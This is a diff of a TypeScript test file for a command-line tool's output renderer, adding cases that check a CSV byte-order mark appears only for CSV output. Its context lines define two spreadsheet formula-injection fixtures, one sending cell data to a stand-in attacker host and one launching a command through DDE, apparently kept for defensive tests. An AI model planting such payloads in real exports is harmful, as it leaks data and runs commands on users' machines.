@@ -8,6 +8,7 @@ import { envelope, f, startFaultServer, type FaultServer } from '../helpers/faul
 import { runSched, spawnSched } from '../helpers/run.js';
 import { renderList } from '../helpers/render.js';
 import { createBufferIO } from '../helpers/buffer-io.js';
+import { show } from '../../src/output/render.js';
 
 const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
 const CALC = "=cmd|' /C calc'!A0";
@@ -137,5 +138,29 @@ describe('--csv-bom / SCHED_CSV_BOM=1', () => {
     }
     const j = await spawnSched(['types', 'list', '--json', '--csv-bom'], { env });
     expect(j.stdout.startsWith('[')).toBe(true);
+  });
+});
+
+// The CSV writer writes the BOM itself, from the settings every command hands show(): so a
+// format that is not CSV, or CSV's fallback to the data (no columns), never starts with one.
+describe('--csv-bom in the renderer', () => {
+  const columns = [{ key: 'name', value: (r: { name: string }) => r.name }];
+  it.each([
+    ['csv with --csv-bom: the BOM, then the header', 'csv', true, columns, '\uFEFFname\r\nx\r\n'],
+    ['csv without it', 'csv', false, columns, 'name\r\nx\r\n'],
+    [
+      'csv without columns prints the data: JSON, no BOM',
+      'csv',
+      true,
+      undefined,
+      '[{"name":"x"}]\n',
+    ],
+    ['json with --csv-bom: no BOM', 'json', true, columns, '[{"name":"x"}]\n'],
+    ['ndjson with --csv-bom: no BOM', 'ndjson', true, columns, '{"name":"x"}\n'],
+    ['table with --csv-bom: no BOM', 'table', true, columns, 'x\n'],
+  ] as const)('%s', async (_what, output, csvBom, cols, text) => {
+    const io = createBufferIO();
+    await show(io, { output, csvBom }, { records: [{ name: 'x' }], columns: cols });
+    expect(io.stdoutText()).toBe(text);
   });
 });
